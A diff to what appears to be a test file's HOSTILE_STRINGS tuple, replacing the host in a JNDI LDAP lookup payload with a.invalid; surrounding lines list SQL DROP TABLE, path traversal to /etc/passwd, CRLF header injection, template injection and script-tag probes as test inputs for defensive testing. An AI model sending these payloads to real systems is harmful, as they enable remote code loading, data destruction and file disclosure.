@@ -31,7 +31,7 @@ HOSTILE_STRINGS = (
     "\u200b",
     "\r\nX-Injected: yes",
     "'; DROP TABLE sessions; --",
-    "${jndi:ldap://rampcheck.example/x}",
+    "${jndi:ldap://a.invalid/x}",
     "{{7*7}}",
     "../../../etc/passwd",
     "<script>alert(1)</script>",
